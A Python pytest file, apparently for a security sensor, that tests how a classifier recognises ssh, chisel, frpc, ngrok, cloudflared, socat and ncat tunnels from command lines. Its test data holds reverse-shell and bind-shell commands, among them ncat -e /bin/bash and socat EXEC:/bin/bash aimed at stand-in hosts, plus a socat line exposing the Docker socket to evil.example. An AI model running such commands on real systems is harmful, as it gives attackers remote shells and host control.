"""Tunnel classification of exec argv: ssh read as OpenSSH's own parser reads it, and the other
tunnel tools. Pure Python; nothing here runs ssh."""

from __future__ import annotations

import socket
import time
from collections import Counter
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sensor.classify.tunnel import (
    Direction,
    Forward,
    Tunnel,
    classify_tunnel,
    parse_ssh_args,
    tool_of,
)

R, L, D, RD, RELAY = (Direction.REVERSE, Direction.LOCAL, Direction.DYNAMIC, Direction.REVERSE_DYNAMIC,
                      Direction.RELAY)


def fwd(direction: Direction, listen: str = "", port: int = 0, target: str = "", target_port: int = 0, *,
        spec: str, listen_path: str = "", target_path: str = "") -> Forward:
    return Forward(direction, listen, port, target, target_port, listen_path, target_path, spec)


def ssh(host: str, *forwards: Forward, user: str = "", port: int = 0, tool: str = "ssh") -> Tunnel:
    return Tunnel(tool, host, user, port, forwards)


def classify(*args: str, exe: bytes = b"", known_tool: str | None = None) -> Tunnel | None:
    return classify_tunnel([arg.encode() for arg in args], exe, known_tool)


REVERSE_9000 = fwd(R, "", 9000, "localhost", 22, spec="9000:localhost:22")
CONFIG_9000 = fwd(R, "", 9000, "localhost", 22, spec="9000 localhost:22")  # -o RemoteForward: listen, target

SSH_CASES = [
    # combined short flags, an option's value joined to its cluster or in the next argument
    (["ssh", "-fNR", "9000:localhost:22", "user@203.0.113.7"], ssh("203.0.113.7", REVERSE_9000, user="user")),
    (["ssh", "-NTfR9000:localhost:22", "h"], ssh("h", REVERSE_9000)),
    (["ssh", "-fN", "-R9000:localhost:22", "h"], ssh("h", REVERSE_9000)),
    # ssh's second getopt pass over what follows the destination
    (["ssh", "host", "-R", "9000:localhost:22"], ssh("host", REVERSE_9000)),
    (["ssh", "host", "-N", "-R", "9000:localhost:22", "-p", "2222"], ssh("host", REVERSE_9000, port=2222)),
    (["ssh", "-R", "0.0.0.0:9000:127.0.0.1:22", "-p", "2222", "-l", "bob", "198.51.100.4"],
     ssh("198.51.100.4", fwd(R, "0.0.0.0", 9000, "127.0.0.1", 22, spec="0.0.0.0:9000:127.0.0.1:22"),
         user="bob", port=2222)),
    (["ssh", "-R", "[::1]:9000:[::1]:22", "h"],
     ssh("h", fwd(R, "::1", 9000, "::1", 22, spec="[::1]:9000:[::1]:22"))),
    (["ssh", "-R", "*:9000:localhost:22", "h"],
     ssh("h", fwd(R, "*", 9000, "localhost", 22, spec="*:9000:localhost:22"))),
    (["ssh", "-R", ":9000:localhost:22", "h"],
     ssh("h", fwd(R, "", 9000, "localhost", 22, spec=":9000:localhost:22"))),
    (["ssh", "-R", "0:localhost:22", "h"], ssh("h", fwd(R, "", 0, "localhost", 22, spec="0:localhost:22"))),
    (["ssh", "-R", "9000:a\\:b:22", "h"], ssh("h", fwd(R, "", 9000, "a:b", 22, spec="9000:a\\:b:22"))),
    # a port alone, or bind:port, is a remote SOCKS proxy
    (["ssh", "-R", "9000", "h"], ssh("h", fwd(RD, "", 9000, spec="9000"))),
    (["ssh", "-R", "127.0.0.1:1080", "h"], ssh("h", fwd(RD, "127.0.0.1", 1080, spec="127.0.0.1:1080"))),
    # unix sockets
    (["ssh", "-R", "/tmp/r.sock:localhost:22", "h"],
     ssh("h", fwd(R, "", 0, "localhost", 22, listen_path="/tmp/r.sock", spec="/tmp/r.sock:localhost:22"))),
    (["ssh", "-R", "9000:/run/l.sock", "h"],
     ssh("h", fwd(R, "", 9000, target_path="/run/l.sock", spec="9000:/run/l.sock"))),
    (["ssh", "-R", "/tmp/r.sock:/run/l.sock", "h"],
     ssh("h", fwd(R, listen_path="/tmp/r.sock", target_path="/run/l.sock", spec="/tmp/r.sock:/run/l.sock"))),
    # -o, in each of the spellings ssh's config parser takes
    (["ssh", "-o", "RemoteForward=9000 localhost:22", "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-oremoteforward=9000 localhost:22", "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-o", "RemoteForward 9000 localhost:22", "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-o", "REMOTEFORWARD = 9000\tlocalhost:22  ", "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-o", 'RemoteForward "9000" \'localhost:22\'', "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-o", '"RemoteForward" 9000 localhost:22', "h"], ssh("h", CONFIG_9000)),
    (["ssh", "-oRemoteForward=[::1]:9000 localhost:22", "h"],
     ssh("h", fwd(R, "::1", 9000, "localhost", 22, spec="[::1]:9000 localhost:22"))),
    (["ssh", "-o", "RemoteForward 9000", "h"], ssh("h", fwd(RD, "", 9000, spec="9000"))),
    (["ssh", "-o", "LocalForward=8080 db:5432", "h"], ssh("h", fwd(L, "", 8080, "db", 5432, spec="8080 db:5432"))),
    (["ssh", "-oDynamicForward=1080", "h"], ssh("h", fwd(D, "", 1080, spec="1080"))),
    (["ssh", "-o", "Port=2222", "-o", "User alice", "-o", "HostName=%h.example.net", "-R", "9000:localhost:22", "h"],
     ssh("h.example.net", REVERSE_9000, user="alice", port=2222)),
    # the destination: ssh:// URI, the last '@', ssh's lowercasing of names
    (["ssh", "ssh://eve@203.0.113.9:2222", "-R", "1:h:2"],
     ssh("203.0.113.9", fwd(R, "", 1, "h", 2, spec="1:h:2"), user="eve", port=2222)),
    (["ssh", "-R", "9000:localhost:22", "ssh://user@[2001:db8::1]:2222"],
     ssh("2001:db8::1", REVERSE_9000, user="user", port=2222)),
    (["ssh", "-R", "9000:localhost:22", "me@corp@Bastion.Example"],
     ssh("bastion.example", REVERSE_9000, user="me@corp")),
    # the first user and port win, in ssh's reading order
    (["ssh", "-p", "2200", "-l", "first", "ssh://second@h:2222", "-R", "9000:localhost:22"],
     ssh("h", REVERSE_9000, user="first", port=2200)),
    (["ssh", "second@h", "-l", "third", "-p", "2222", "-R", "9000:localhost:22"],
     ssh("h", REVERSE_9000, user="second", port=2222)),
    # -L and -D are not reverse, but they are tunnels
    (["ssh", "-L", "8080:db:5432", "host"], ssh("host", fwd(L, "", 8080, "db", 5432, spec="8080:db:5432"))),
    (["ssh", "-D", "1080", "host"], ssh("host", fwd(D, "", 1080, spec="1080"))),
    (["ssh", "-D", "127.0.0.1:1080", "host"], ssh("host", fwd(D, "127.0.0.1", 1080, spec="127.0.0.1:1080"))),
    # a master asked to add forwards does set them up
    (["ssh", "-S", "/tmp/ctl", "-O", "forward", "-R", "9000:localhost:22", "h"], ssh("h", REVERSE_9000)),
    # -W clears forwards unless ClearAllForwardings says otherwise
    (["ssh", "-W", "db:5432", "-o", "ClearAllForwardings=no", "-R", "9000:localhost:22", "h"], ssh("h", REVERSE_9000)),
    (["ssh", "-oClearAllForwardings=no", "-oClearAllForwardings=yes", "-R", "9000:localhost:22", "h"],
     ssh("h", REVERSE_9000)),
    # bad specs are dropped, the good ones stay
    (["ssh", "-R", "9000:localhost:99999", "-R", "abc:localhost:22", "-R", "1:2:3:4:5", "-L", "0:db:5432",
      "-R", "9000:localhost:22", "h"], ssh("h", REVERSE_9000)),
]

SSH_NOT_TUNNELS = [
    ["ssh", "host"],
    ["ssh", "host", "uptime"],
    ["ssh", "git@github.com", "git-upload-pack 'x/y.git'"],
    # scp's own ssh: ClearAllForwardings=yes, and `--` before the destination
    ["ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes", "-oRemoteCommand=none",
     "-oRequestTTY=no", "-oForwardAgent=no", "-l", "u", "--", "host", "scp", "-t", "/tmp"],
    ["ssh", "-oClearAllForwardings=yes", "-R", "9000:localhost:22", "host"],
    ["ssh", "-o", "clearallforwardings TRUE", "host", "-R", "9000:localhost:22"],
    # after `--`, or after the remote command's first word, -R is part of the command
    ["ssh", "--", "host", "-R", "9000:x:22"],
    ["ssh", "host", "echo", "-R", "9000:x:22"],
    ["ssh", "host", "--", "-R", "9000:x:22"],
    # ssh.c looks at av[optind - 1]: a "--" taken as -l's value also ends option parsing
    ["ssh", "-l", "--", "host", "-R", "9000:x:22"],
    # options with which ssh never connects
    ["ssh", "-V", "-R", "9000:localhost:22", "host"],
    ["ssh", "-G", "-R", "9000:localhost:22", "host"],
    ["ssh", "-Q", "cipher", "-R", "9000:localhost:22", "host"],
    ["ssh", "-1", "-R", "9000:localhost:22", "host"],
    ["ssh", "-S", "/tmp/ctl", "-O", "cancel", "-R", "9000:localhost:22", "host"],
    ["ssh", "-W", "db:5432", "-R", "9000:localhost:22", "jump"],
    # stdio forwarding and jump hosts alone are not tunnels
    ["ssh", "-W", "db:5432", "jump"],
    ["ssh", "-J", "bastion", "host"],
    # what ssh itself refuses
    ["ssh", "-R", "99999:localhost:22", "host"],
    ["ssh", "-L", "8080", "host"],
    ["ssh", "-L", "8080:db", "host"],
    ["ssh", "-o", "LocalForward 8080", "host"],
    ["ssh", "-R", "9000:localhost:22\\", "host"],
    ["ssh", "-R", "[::1:9000:localhost:22", "host"],
]

OTHER_CASES = [
    # autossh: its own -M, -f and -V; the rest is ssh's
    (["autossh", "-M", "20000", "-f", "-N", "-R", "9000:localhost:22", "u@203.0.113.7"],
     ssh("203.0.113.7", REVERSE_9000, user="u", tool="autossh")),
    (["autossh", "-M0", "-fNR", "9000:localhost:22", "h"], ssh("h", REVERSE_9000, tool="autossh")),
    (["autossh", "-f", "-M", "0", "-o", "ServerAliveInterval=30", "h", "-R", "9000:localhost:22"],
     ssh("h", REVERSE_9000, tool="autossh")),
    # autossh swallows the first `--`, so its ssh sees the -R as an option
    (["autossh", "-M", "0", "--", "h", "-R", "9000:localhost:22"], ssh("h", REVERSE_9000, tool="autossh")),
    # chisel
    (["chisel", "client", "https://c2.example:8443", "R:2222:localhost:22"],
     Tunnel("chisel", "c2.example", "", 8443, (fwd(R, "", 2222, "localhost", 22, spec="R:2222:localhost:22"),))),
    (["chisel", "client", "--auth", "u:pw", "--keepalive=25s", "-v", "203.0.113.5:8000",
      "R:0.0.0.0:8080:127.0.0.1:80", "R:socks", "R:[::1]:2222:[::1]:22"],
     Tunnel("chisel", "203.0.113.5", "u", 8000, (
         fwd(R, "0.0.0.0", 8080, "127.0.0.1", 80, spec="R:0.0.0.0:8080:127.0.0.1:80"),
         fwd(RD, "", 1080, spec="R:socks"),
         fwd(R, "::1", 2222, "::1", 22, spec="R:[::1]:2222:[::1]:22"),
     ))),
    (["chisel", "client", "c2.example", "3000:localhost:3000", "socks", "R:4000"],
     Tunnel("chisel", "c2.example", "", 0, (
         fwd(L, "", 3000, "localhost", 3000, spec="3000:localhost:3000"),
         fwd(D, "", 1080, spec="socks"),
         fwd(R, "", 4000, "127.0.0.1", 4000, spec="R:4000"),
     ))),
    # frpc
    (["frpc", "tcp", "--local_ip", "10.0.0.5", "--local_port=22", "-r", "6000", "-s", "203.0.113.5", "-P", "7000"],
     Tunnel("frpc", "203.0.113.5", "", 7000, (fwd(R, "", 6000, "10.0.0.5", 22, spec="tcp"),))),
    (["frpc", "tcp", "-l22", "--remote-port", "6000", "--server_addr=203.0.113.5:7001", "-u", "ops"],
     Tunnel("frpc", "203.0.113.5", "ops", 7001, (fwd(R, "", 6000, "127.0.0.1", 22, spec="tcp"),))),
    (["frpc", "-c", "/etc/frp/frpc.toml"], Tunnel("frpc", "", "", 0, (fwd(R, spec="/etc/frp/frpc.toml"),))),
    (["frpc", "stcp", "visitor", "--server_name", "secret_ssh", "--bind_port", "6000"],
     Tunnel("frpc", "", "", 0, (fwd(L, "", 6000, spec="stcp visitor"),))),
    # ngrok
    (["ngrok", "tcp", "22"], Tunnel("ngrok", "", "", 0, (fwd(R, "", 0, "localhost", 22, spec="tcp 22"),))),
    (["ngrok", "http", "80", "--region", "eu"], Tunnel("ngrok", "", "", 0, (fwd(R, "", 0, "localhost", 80,
                                                                                spec="http 80"),))),
    (["ngrok", "--authtoken", "X", "tls", "443"], Tunnel("ngrok", "", "", 0, (fwd(R, "", 0, "localhost", 443,
                                                                                  spec="tls 443"),))),
    (["ngrok", "http", "localhost:8080", "--url=https://x.ngrok.app"],
     Tunnel("ngrok", "", "", 0, (fwd(R, "x.ngrok.app", 443, "localhost", 8080, spec="http localhost:8080"),))),
    (["ngrok", "http", "https://10.0.0.5", "-region", "eu"],
     Tunnel("ngrok", "", "", 0, (fwd(R, "", 0, "10.0.0.5", 443, spec="http https://10.0.0.5"),))),
    (["ngrok", "start", "--all"], Tunnel("ngrok", "", "", 0, (fwd(R, spec="start"),))),
    # cloudflared
    (["cloudflared", "tunnel", "--url", "http://localhost:8080"],
     Tunnel("cloudflared", "", "", 0, (fwd(R, "", 0, "localhost", 8080, spec="http://localhost:8080"),))),
    (["cloudflared", "tunnel", "--no-autoupdate", "run", "--token", "eyJh"],
     Tunnel("cloudflared", "", "", 0, (fwd(R, spec="tunnel run"),))),
    (["cloudflared", "--config", "/etc/cf.yml", "tunnel", "run", "gpu"],
     Tunnel("cloudflared", "", "", 0, (fwd(R, spec="tunnel run gpu"),))),
    (["cloudflared", "tunnel", "--hostname", "ssh.example.com", "--url", "ssh://localhost:22"],
     Tunnel("cloudflared", "", "", 0, (fwd(R, "ssh.example.com", 0, "localhost", 22, spec="ssh://localhost:22"),))),
    # bore
    (["bore", "local", "8000", "--to", "bore.pub"],
     Tunnel("bore", "bore.pub", "", 0, (fwd(R, "", 0, "localhost", 8000, spec="local 8000"),))),
    (["bore", "local", "--local-host", "10.0.0.2", "-p", "4000", "-tbore.example", "22"],
     Tunnel("bore", "bore.example", "", 0, (fwd(R, "", 4000, "10.0.0.2", 22, spec="local 22"),))),
    # socat: a remote peer joined to a shell or a service here, a listener forwarding out
    (["socat", "TCP:203.0.113.5:443", "EXEC:/bin/bash,pty,stderr"],
     Tunnel("socat", "203.0.113.5", "", 443, (fwd(RELAY, spec="TCP:203.0.113.5:443 EXEC:/bin/bash,pty,stderr"),))),
    (["socat", "-d", "-d", "-T", "10", "tcp:127.0.0.1:22", "openssl:203.0.113.5:443,verify=0"],
     Tunnel("socat", "203.0.113.5", "", 443, (fwd(RELAY, "", 0, "127.0.0.1", 22,
                                                  spec="tcp:127.0.0.1:22 openssl:203.0.113.5:443,verify=0"),))),
    (["socat", "-lf", "/tmp/log", "TCP6:[2001:db8::5]:443", "TCP:[::1]:22"],
     Tunnel("socat", "2001:db8::5", "", 443, (fwd(RELAY, "", 0, "::1", 22,
                                                  spec="TCP6:[2001:db8::5]:443 TCP:[::1]:22"),))),
    (["socat", "TCP4:evil.example:8443", "UNIX-CONNECT:/run/docker.sock"],
     Tunnel("socat", "evil.example", "", 8443, (
         fwd(RELAY, target_path="/run/docker.sock", spec="TCP4:evil.example:8443 UNIX-CONNECT:/run/docker.sock"),
     ))),
    (["socat", "TCP:198.51.100.1:80", "TCP:203.0.113.5:443"],
     Tunnel("socat", "198.51.100.1", "", 80, (fwd(RELAY, "", 0, "203.0.113.5", 443,
                                                  spec="TCP:198.51.100.1:80 TCP:203.0.113.5:443"),))),
    (["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:203.0.113.5:80"],
     Tunnel("socat", "203.0.113.5", "", 80, (fwd(L, "", 8080, "203.0.113.5", 80,
                                                 spec="TCP-LISTEN:8080,fork,reuseaddr TCP:203.0.113.5:80"),))),
    (["socat", "SOCKS4A:proxy.example:10.9.9.9:22,socksport=1080", "EXEC:/bin/sh"],
     Tunnel("socat", "proxy.example", "", 0, (fwd(RELAY, spec="SOCKS4A:proxy.example:10.9.9.9:22,socksport=1080 "
                                                               "EXEC:/bin/sh"),))),
    (["socat", "TCP:127.1:22", "TCP:203.0.113.5:443"],  # 127.1 is 127.0.0.1 to inet_aton()
     Tunnel("socat", "203.0.113.5", "", 443, (fwd(RELAY, "", 0, "127.1", 22,
                                                  spec="TCP:127.1:22 TCP:203.0.113.5:443"),))),
    (["socat", "TCP4-LISTEN:4444", "SYSTEM:/bin/sh"],
     Tunnel("socat", "", "", 0, (fwd(RELAY, "", 4444, spec="TCP4-LISTEN:4444 SYSTEM:/bin/sh"),))),
    # ncat
    (["ncat", "203.0.113.5", "4444", "-e", "/bin/bash"],
     Tunnel("ncat", "203.0.113.5", "", 4444, (fwd(RELAY, spec="/bin/bash"),))),
    (["ncat", "--sh-exec", "bash -i", "203.0.113.5", "4444"],
     Tunnel("ncat", "203.0.113.5", "", 4444, (fwd(RELAY, spec="bash -i"),))),
    (["ncat", "-vc", "bash -i", "203.0.113.5", "4444"],
     Tunnel("ncat", "203.0.113.5", "", 4444, (fwd(RELAY, spec="bash -i"),))),
    (["ncat", "--exe=/bin/sh", "--ssl", "203.0.113.5", "443"],  # getopt_long takes a unique prefix
     Tunnel("ncat", "203.0.113.5", "", 443, (fwd(RELAY, spec="/bin/sh"),))),
    (["ncat", "203.0.113.5", "4444", "--lua-exec", "shell.lua"],
     Tunnel("ncat", "203.0.113.5", "", 4444, (fwd(RELAY, spec="shell.lua"),))),
    (["ncat", "--lua", "shell.lua", "203.0.113.5", "4444"],  # --lua-exec and --lua-exec-internal are alike
     Tunnel("ncat", "203.0.113.5", "", 4444, (fwd(RELAY, spec="shell.lua"),))),
    (["ncat", "-lvnp", "4444", "-e", "/bin/bash"],
     Tunnel("ncat", "", "", 0, (fwd(RELAY, "", 4444, spec="/bin/bash"),))),
    (["ncat", "--listen", "0.0.0.0", "5555", "--exec", "/bin/sh"],
     Tunnel("ncat", "", "", 0, (fwd(RELAY, "0.0.0.0", 5555, spec="/bin/sh"),))),
]

OTHER_NOT_TUNNELS = [
    ["autossh", "-V", "-M", "0", "-R", "9000:localhost:22", "h"],
    ["autossh", "-M", "0", "h"],
    ["chisel", "server", "--reverse", "--port", "8000"],
    ["chisel", "client", "c2.example"],
    ["chisel", "client", "c2.example", "stdio:10.0.0.5:22"],
    ["chisel", "--version"],
    ["frpc", "verify", "-c", "/etc/frp/frpc.toml"],
    ["frpc", "--version"],
    ["frpc", "status"],
    ["ngrok", "version"],
    ["ngrok", "config", "add-authtoken", "X"],
    ["ngrok"],
    ["cloudflared", "tunnel", "list"],
    ["cloudflared", "tunnel", "login"],
    ["cloudflared", "tunnel", "route", "dns", "gpu", "ssh.example.com"],
    ["cloudflared", "access", "tcp", "--hostname", "ssh.example.com", "--url", "localhost:2222"],
    ["cloudflared", "service", "install", "eyJh"],
    ["cloudflared", "version"],
    ["bore", "server"],
    ["socat", "-", "TCP:203.0.113.5:443"],
    ["socat", "STDIO", "OPENSSL:203.0.113.5:443"],
    ["socat", "TCP:203.0.113.5:443"],
    ["socat", "-V"],
    ["socat", "EXEC:/bin/sh", "STDIO"],
    ["socat", "TCP:localhost:22", "EXEC:/bin/sh"],
    ["ncat", "203.0.113.5", "4444"],
    ["ncat", "-l", "4444"],
    ["ncat", "--s", "/bin/sh", "203.0.113.5", "4444"],  # ambiguous: --sh-exec, --source, --source-port...
    ["scp", "file", "host:/tmp"],
    ["git", "push"],
    ["sftp", "host"],
]


@pytest.mark.parametrize(("argv", "expected"), SSH_CASES + OTHER_CASES,
                         ids=lambda v: " ".join(v)[:80] if isinstance(v, list) else None)
def test_tunnel_fields(argv: list[str], expected: Tunnel) -> None:
    assert classify(*argv) == expected


@pytest.mark.parametrize("argv", SSH_NOT_TUNNELS + OTHER_NOT_TUNNELS, ids=lambda v: " ".join(v)[:80])
def test_not_a_tunnel(argv: list[str]) -> None:
    assert classify(*argv) is None


def test_directions_and_reverse() -> None:
    local = classify("ssh", "-L", "8080:db:5432", "-D", "1080", "host")
    assert local is not None
    assert local.directions == {L, D}
    assert not local.is_reverse
    for reverse in (classify("ssh", "-R", "9000", "h"), classify("ssh", "-L", "1:h:2", "-R", "3:h:4", "h"),
                    classify("ncat", "h", "1", "-e", "sh")):
        assert reverse is not None
        assert reverse.is_reverse
    both = classify("ssh", "-L", "1:h:2", "-R", "3:h:4", "h")
    assert both is not None
    assert both.directions == {L, R}


def test_service_names_are_ports() -> None:
    try:
        ssh_port = socket.getservbyname("ssh", "tcp")
    except OSError:
        pytest.skip("no /etc/services here")
    tunnel = classify("ssh", "-R", "9000:localhost:ssh", "-p", "ssh", "h")
    assert tunnel == ssh("h", fwd(R, "", 9000, "localhost", ssh_port, spec="9000:localhost:ssh"), port=ssh_port)


# -- which tool --------------------------------------------------------------------------------


def test_a_renamed_ssh_is_ssh_by_identity() -> None:
    argv = [b"kworker", b"-fNR", b"9000:localhost:22", b"203.0.113.7"]
    exe = b"/tmp/x/.cache/kworker"
    assert classify_tunnel(argv, exe) is None
    assert classify_tunnel(argv, exe, known_tool="ssh") == ssh("203.0.113.7", REVERSE_9000)


@pytest.mark.parametrize(("argv", "exe", "known_tool", "expected"), [
    ([b"ssh", b"host"], b"/usr/bin/ssh", None, "ssh"),
    ([b"/usr/bin/ssh", b"host"], b"", None, "ssh"),
    ([b"sshd: user"], b"/usr/bin/ssh", None, "ssh"),  # the file executed wins over argv[0]
    ([b"ssh", b"host"], b"/usr/bin/python3", None, "ssh"),  # then argv[0]
    ([b"kworker"], b"/tmp/kworker", "ssh", "ssh"),
    ([b"ssh", b"host"], b"/usr/bin/ssh", "git", None),  # identity wins both ways
    ([b"scp", b"f", b"h:"], b"/usr/bin/scp", None, None),
    ([b"nc.openbsd", b"h", b"1"], b"/bin/nc.openbsd", None, None),
    ([], b"", None, None),
    ([], b"/usr/local/bin/chisel", None, "chisel"),
])
def test_tool_of(argv: list[bytes], exe: bytes, known_tool: str | None, expected: str | None) -> None:
    assert tool_of(argv, exe, known_tool) == expected


# -- hostile input -----------------------------------------------------------------------------

TOOLS = ["ssh", "autossh", "chisel", "frpc", "ngrok", "cloudflared", "socat", "ncat", "bore"]
MIB = b"A" * (1 << 20)


@pytest.mark.parametrize("tool", TOOLS)
@pytest.mark.parametrize("rest", [
    [],
    [b"\xff\xfe\x80", b"-R\xff", b"\xc3(:\xff:22", b"h\x00st", b"--to", b"\xff", b"TCP:\xff:1", b"-e"],
    [b"-R"],
    [b"-o"],
    [b"host", b"-R"],
    [b"--url"],
    [b"client", b"h:1", b"R:"],
    [b"-R", MIB, b"host"],
    [b"x"] * 5000,
], ids=lambda rest: f"{len(rest)} args, {sum(map(len, rest))} bytes")
def test_hostile_argv_never_raises(tool: str, rest: list[bytes]) -> None:
    result = classify_tunnel([tool.encode(), *rest])
    assert result is None or result.forwards


@pytest.mark.parametrize("argv", [
    [b"ssh", b"-o", b"RemoteForward " + MIB, b"h"],
    [b"ssh", b"-o", b'RemoteForward "' + MIB, b"h"],
    [b"ssh", b"-" + b"v" * (1 << 20), b"host"],
    [b"ssh", b"-R", b"9" * (1 << 20) + b":h:22", b"h"],
    [b"ssh", b"-R", b"\\:/" * (1 << 18), b"h"],
    [b"ssh", b"-R", b"[" + MIB, b"h"],
    [b"ssh", b"ssh://" + MIB, b"-R", b"1:h:2"],
    [b"autossh", b"-" + b"f" * (1 << 20), b"host"],
    [b"chisel", b"client", b"h:1", b"R:" + MIB],
    [b"frpc", b"tcp", b"--local_port", MIB, b"-s", MIB],
    [b"ngrok", b"http", MIB, b"--url", MIB],
    [b"cloudflared", b"tunnel", b"--url", MIB],
    [b"bore", b"local", MIB, b"--to", MIB],
    [b"socat", b"TCP:" + MIB, b"EXEC:" + MIB],
    [b"ncat", b"--" + MIB, b"-e", MIB, b"h", MIB],
], ids=lambda argv: f"{argv[0].decode()} {argv[1][:12]!r}...")
def test_a_mib_argument_is_read_in_linear_time(argv: list[bytes]) -> None:
    started = time.monotonic()
    result = classify_tunnel(argv)
    assert result is None or result.forwards
    assert time.monotonic() - started < 5


def test_hostile_edges() -> None:
    assert classify_tunnel([]) is None
    assert classify_tunnel([b"ssh"]) is None
    assert classify_tunnel([b"ssh", b"host", b"-R"]) is None
    assert classify_tunnel([b"ssh", b"-o"]) is None
    assert parse_ssh_args(["-o"]) == Tunnel("ssh", "", "", 0, ())
    many = classify_tunnel([b"ssh", *([b"-R", b"9000:localhost:22"] * 2500), b"host"])
    assert many is not None
    assert len(many.forwards) == 2500
    # a forward seen before the argv was cut short still counts without a destination
    cut = classify_tunnel([b"ssh", b"-R", b"9000:localhost:22"])
    assert cut == ssh("", REVERSE_9000)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(TOOLS), st.lists(st.binary(max_size=40), max_size=12))
def test_random_argv_never_raises(tool: str, rest: list[bytes]) -> None:
    result = classify_tunnel([tool.encode(), *rest])
    assert result is None or result.forwards


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["-", "-R", "-o", "-L", "-D", "--", "-p", "host", "9000:h:22", "9000", "x@y", ":",
                                 "[", "]", "\\", "=", " ", "RemoteForward", '"', "ssh://", "-fN", "-oPort="]),
                max_size=12).map(lambda words: ["".join(words[i:i + 2]) for i in range(0, len(words), 2)]))
def test_ssh_parser_never_raises(args: list[str]) -> None:
    assert isinstance(parse_ssh_args(args), Tunnel)


# -- properties of ssh's option parsing --------------------------------------------------------

Option = tuple[str, str | None]  # a letter and its value (None for a flag)

PORTS = st.integers(min_value=1, max_value=65535)
HOSTS = st.sampled_from(["localhost", "127.0.0.1", "db.internal", "10.0.0.5", "[::1]"])
BINDS = st.sampled_from(["0.0.0.0", "*", "127.0.0.1", "[::]", ""])

FLAGS = st.sampled_from(list("1246AaCfGgKkMNnqsTtVvXxYy")).map(lambda letter: (letter, None))
VALUE_OPTIONS = st.sampled_from([
    ("p", "2222"), ("l", "alice"), ("i", "/home/alice/.ssh/id_ed25519"), ("c", "aes128-ctr"), ("E", "/tmp/ssh.log"),
    ("F", "/dev/null"), ("S", "/tmp/ctl"), ("b", "10.0.0.1"), ("J", "jump@bastion"), ("m", "hmac-sha2-256"),
    ("o", "ServerAliveInterval=30"), ("o", "StrictHostKeyChecking no"), ("o", "ExitOnForwardFailure=yes"),
    ("o", "BatchMode = yes"), ("o", "Port=2222"), ("o", "User alice"), ("o", "UserKnownHostsFile=/dev/null"),
])
REMOTE_SPECS = st.one_of(
    st.builds("{}:{}:{}".format, PORTS, HOSTS, PORTS),
    st.builds("{}:{}:{}:{}".format, BINDS, PORTS, HOSTS, PORTS),
    st.builds(str, PORTS),
    st.builds("{}:{}".format, st.sampled_from(["127.0.0.1", "[::1]", "*"]), PORTS),
    st.builds("/tmp/r{}.sock:{}:{}".format, PORTS, HOSTS, PORTS),
    st.builds("{}:/run/l{}.sock".format, PORTS, PORTS),
)
LOCAL_SPECS = st.one_of(st.builds("{}:{}:{}".format, PORTS, HOSTS, PORTS),
                        st.builds("{}:{}:{}:{}".format, BINDS, PORTS, HOSTS, PORTS))
DYNAMIC_SPECS = st.one_of(st.builds(str, PORTS), st.builds("{}:{}".format, BINDS, PORTS))
FORWARD_OPTIONS = st.one_of(
    st.tuples(st.just("R"), REMOTE_SPECS),
    st.tuples(st.just("L"), LOCAL_SPECS),
    st.tuples(st.just("D"), DYNAMIC_SPECS),
    st.builds(lambda p, h, q: ("o", f"RemoteForward={p} {h}:{q}"), PORTS, HOSTS, PORTS),
    st.builds(lambda p, h, q: ("o", f"LocalForward {p} {h}:{q}"), PORTS, HOSTS, PORTS),
    st.builds(lambda p: ("o", f"DynamicForward={p}"), PORTS),
)
OPTIONS = st.lists(st.one_of(FLAGS, VALUE_OPTIONS, FORWARD_OPTIONS, FORWARD_OPTIONS), min_size=1, max_size=10)
# The one user and port used everywhere: ssh takes the first one given, so two different values
# would rightly make order matter.
DESTINATIONS = st.sampled_from(["gpu-host", "alice@gpu-host", "ssh://alice@gpu-host:2222", "203.0.113.7"])


def render(options: list[Option], join: Callable[[], bool] = lambda: False) -> list[str]:
    """Options as argv, each `-x [value]` on its own, or (where `join` says so) flags gathered into
    clusters and values joined to their letter: `-f -N -R x` -> `-fNRx`."""
    out: list[str] = []
    cluster = ""
    for letter, value in options:
        if cluster and join():
            cluster += letter
        else:
            if cluster:
                out.append(cluster)
            cluster = "-" + letter
        if value is not None:
            out.extend([cluster + value] if join() else [cluster, value])
            cluster = ""
    if cluster:
        out.append(cluster)
    return out


def verdict(args: list[str]) -> tuple[Counter[Forward], str, str, int]:
    tunnel = parse_ssh_args(args)
    return Counter(tunnel.forwards), tunnel.remote_host, tunnel.remote_user, tunnel.remote_port


@settings(max_examples=200, deadline=None)
@given(st.data(), OPTIONS, DESTINATIONS)
def test_option_order_does_not_matter(data: st.DataObject, options: list[Option], destination: str) -> None:
    shuffled = data.draw(st.permutations(options))
    assert verdict([*render(shuffled), destination]) == verdict([*render(options), destination])


@settings(max_examples=200, deadline=None)
@given(st.data(), OPTIONS, DESTINATIONS)
def test_clusters_and_joined_values_do_not_matter(data: st.DataObject, options: list[Option], destination: str) -> None:
    joined = render(options, lambda: data.draw(st.booleans()))
    assert verdict([*joined, destination]) == verdict([*render(options), destination])


@settings(max_examples=200, deadline=None)
@given(st.data(), OPTIONS, DESTINATIONS)
def test_options_after_the_destination_count(data: st.DataObject, options: list[Option], destination: str) -> None:
    moved = [data.draw(st.booleans()) for _ in options]
    before = [option for option, move in zip(options, moved, strict=True) if not move]
    after = [option for option, move in zip(options, moved, strict=True) if move]
    assert verdict([*render(before), destination, *render(after)]) == verdict([*render(options), destination])


@settings(max_examples=100, deadline=None)
@given(OPTIONS, DESTINATIONS, st.sampled_from(["uptime", "echo", "sh -c 'id'"]))
def test_options_after_the_remote_command_do_not_count(options: list[Option], destination: str, command: str) -> None:
    tunnel = parse_ssh_args([destination, command, *render(options)])
    assert tunnel.forwards == ()
